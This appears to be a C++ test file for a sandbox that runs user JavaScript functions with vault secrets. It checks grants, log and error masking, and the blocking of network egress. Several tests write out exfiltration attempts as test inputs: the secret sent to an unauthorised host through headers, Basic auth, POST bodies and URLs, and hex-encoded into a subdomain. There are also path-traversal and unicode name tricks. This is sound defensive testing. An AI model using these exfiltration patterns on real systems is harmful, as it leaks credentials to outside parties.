// Secrets by value: what a function can do with one, and all the ways in which it could try to get it out.
#include "functions/testing/secrets_fixture.h"

namespace nsl::functions {
namespace {

using testing::FunctionSecrets;
using testing::kMarker;
using testing::kMasked;

TEST_F(FunctionSecrets, GetsTheValueItHasAGrantFor) {
  know(vault::Exposure::kValue, {});
  const Execution execution =
      run("export default async (x, context) => { const v = await context.secrets.get('KEY'); return [typeof v, "
          "v.length]; }");
  EXPECT_EQ(execution.output, R"(["string",21])");
  expect_nowhere(execution);
  EXPECT_NE(execution.journal.find("hash-of-KEY"), std::string::npos) << execution.journal;
}

TEST_F(FunctionSecrets, GetsNothingWithoutAGrantWhateverTheNameLooksLike) {
  know(vault::Exposure::kValue, {});
  const Execution execution = run(R"(export default async (x, context) => {
    const refused = [];
    for (const name of ['key', 'KEY ', ' KEY', '../KEY', './KEY', 'dev/KEY', 'KEY\u0000', 'KE\u0059\u0301', '\uff2bEY', '*', 'K*', 'K%45Y', 'KEY/..', '', 'X'.repeat(129), null, ['KEY'], { toString: () => 'KEY' }]) {
      try { await context.secrets.get(name); } catch (error) { refused.push(error.code ?? error.name); }
    }
    return refused;
  })");
  EXPECT_EQ(
      execution.output,
      R"(["host_call_denied","TypeError","TypeError","TypeError","TypeError","TypeError","TypeError","TypeError","TypeError","TypeError","TypeError","TypeError","TypeError","TypeError","TypeError","TypeError","TypeError","TypeError"])");
}

TEST_F(FunctionSecrets, DoesNotGetTheValueWithAGrantForReferencesOnly) {
  know(vault::Exposure::kReference, {server.authority()});
  const Execution execution =
      run("export default async (x, context) => context.secrets.get('KEY').catch((error) => error.code)");
  EXPECT_EQ(execution.output, "\"host_call_denied\"");
}

TEST_F(FunctionSecrets, MasksTheValueInLogs) {
  know(vault::Exposure::kValue, {});
  const Execution execution = run(R"(export default async (x, context) => {
    const value = await context.secrets.get('KEY');
    console.log('plain', value, 'and', value);
    console.error({ nested: [value] });
    console.warn(JSON.stringify({ value }));
    console.info(encodeURIComponent(value), btoa(value), btoa('user:' + value));
    console.debug([...new TextEncoder().encode(value)].map((b) => b.toString(16).padStart(2, '0')).join(''));
    console.error(new Error('failed with ' + value));
    return 'done';
  })");
  EXPECT_EQ(execution.output, "\"done\"");
  ASSERT_EQ(execution.logs.size(), 6u);
  for (const LogEntry& entry : execution.logs)
    EXPECT_NE(entry.message.find(kMasked), std::string::npos) << entry.message;
  EXPECT_EQ(execution.logs[0].message, "plain [secret KEY] and [secret KEY]");
  expect_nowhere(execution);
}

TEST_F(FunctionSecrets, MasksTheValueInErrorsAndTheirStacks) {
  know(vault::Exposure::kValue, {});
  const Execution execution = run(R"(export default async (x, context) => {
    const value = await context.secrets.get('KEY');
    const error = new Error('cannot use ' + value);
    error.stack = error.stack + '\n' + value;
    throw error;
  })");
  ASSERT_EQ(execution.status, ExecutionStatus::kFailed);
  EXPECT_NE(execution.error->message.find("cannot use [secret KEY]"), std::string::npos) << execution.error->message;
  expect_nowhere(execution);
}

TEST_F(FunctionSecrets, FailsWhenItReturnsTheValue) {
  know(vault::Exposure::kValue, {});
  for (const char* const output :
       {"value", "{ deep: [value] }", "'x' + value + 'y'", "btoa(value)", "encodeURIComponent(value)"}) {
    const Execution execution =
        run("export default async (x, context) => { const value = await context.secrets.get('KEY'); return " +
            std::string(output) + "; }");
    ASSERT_EQ(execution.status, ExecutionStatus::kFailed) << output;
    EXPECT_EQ(execution.error->code, "secret_in_output") << output;
    EXPECT_EQ(execution.output, "");
    expect_nowhere(execution);
  }
}

TEST_F(FunctionSecrets, MaySendTheValueToTheHostsOfItsGrant) {
  know(vault::Exposure::kValue, {server.authority()});
  const Execution execution = run(R"(export default async (x, context) => {
    const value = await context.secrets.get('KEY');
    const answer = await fetch(server, { headers: { 'x-key': value } });
    return [answer.headers.get('x-echo'), (await answer.text()).slice(0, 17)];
  })");
  ASSERT_EQ(seen().size(), 1u);
  EXPECT_NE(seen()[0].find(kMarker), std::string::npos);
  EXPECT_EQ(execution.output, R"(["[secret KEY]","echo [secret KEY]"])") << "what comes back is scrubbed";
  expect_nowhere(execution);
}

TEST_F(FunctionSecrets, MaySendTheValueNowhereElse) {
  know(vault::Exposure::kValue, {server.authority()});
  const Execution execution = run(R"(export default async (x, context) => {
    const value = await context.secrets.get('KEY');
    const hex = [...new TextEncoder().encode(value)].map((b) => b.toString(16).padStart(2, '0')).join('');
    const tries = [
      () => fetch(other, { headers: { 'x-key': value } }),
      () => fetch(other, { headers: { Authorization: 'Basic ' + btoa('user:' + value) } }),
      () => fetch(other, { method: 'POST', body: value }),
      () => fetch(other, { method: 'POST', body: JSON.stringify({ value }) }),
      () => fetch(other + '/' + encodeURIComponent(value)),
      () => fetch(other + '/?q=' + encodeURIComponent(value)),
      () => fetch(other + '/' + hex),
      () => fetch('https://' + hex.slice(0, 60) + '.example.com/' + hex),
    ];
    const refused = [];
    for (const attempt of tries) await attempt().then(() => refused.push('sent'), (error) => refused.push(error.cause.code));
    return refused;
  })");
  EXPECT_EQ(
      execution.output,
      R"(["egress_denied","egress_denied","egress_denied","egress_denied","egress_denied","egress_denied","egress_denied","egress_denied"])");
  EXPECT_TRUE(seen().empty());
  EXPECT_EQ(refusals(),
            "egress_denied egress_denied egress_denied egress_denied egress_denied egress_denied egress_denied "
            "egress_denied ");
  expect_nowhere(execution);
}

TEST_F(FunctionSecrets, MayNotPutTheValueIntoTheNameOfAHost) {
  known_secrets.with(
      [&](auto& known) { known = {{.name = "KEY", .value = "MarkerInHost", .hosts = {"MarkerInHost.example.com"}}}; });
  const Execution execution = run(R"(export default async (x, context) => {
    const value = await context.secrets.get('KEY');
    return fetch('https://' + value + '.example.com/').then(() => 'sent', (error) => error.cause.code);
  })");
  EXPECT_EQ(execution.output, "\"egress_denied\"");
  for (const testing::RecordedUse& use : secrets->recorded())
    EXPECT_EQ(use.host, "") << "the name of the host is the value";
}

TEST_F(FunctionSecrets, DoNotFollowARedirectToAnotherHost) {
  know(vault::Exposure::kValue, {server.authority(), other.authority()});
  const Execution execution = run(R"(export default async (x, context) => {
    const value = await context.secrets.get('KEY');
    const results = [];
    for (const headers of [{ 'x-key': value }, { 'x-key': context.secrets.reference('KEY') }]) {
      results.push(await fetch(server + '/away', { headers }).then(() => 'followed', (error) => error.cause.code));
      results.push(await fetch(server + '/around', { headers }).then((answer) => answer.redirected, (error) => error.cause.code));
      results.push(await fetch(server + '/away', { headers, redirect: 'manual' }).then((answer) => answer.status, (error) => error.cause.code));
    }
    return results;
  })");
  EXPECT_EQ(execution.output, R"(["egress_denied",true,302,"egress_denied",true,302])");
  for (const std::string& request : seen())
    EXPECT_FALSE(request.starts_with("GET /landed") && request.find(other.authority()) != request.npos);
  expect_nowhere(execution);
}

TEST_F(FunctionSecrets, MayNotHideTheValueInTheNameOfASecret) {
  known_secrets.with([&](auto& known) { known = {{.name = "KEY", .value = "Marker7Gh2", .hosts = {}}}; });
  const Execution execution = run(R"(export default async (x, context) => {
    const value = await context.secrets.get('KEY');
    return context.secrets.get(value).catch((error) => error.code);
  })");
  EXPECT_EQ(execution.output, "\"host_call_denied\"");
  ASSERT_EQ(secrets->recorded().size(), 1u);
  EXPECT_EQ(secrets->recorded()[0].secret, "KEY");
}

}  // namespace
}  // namespace nsl::functions
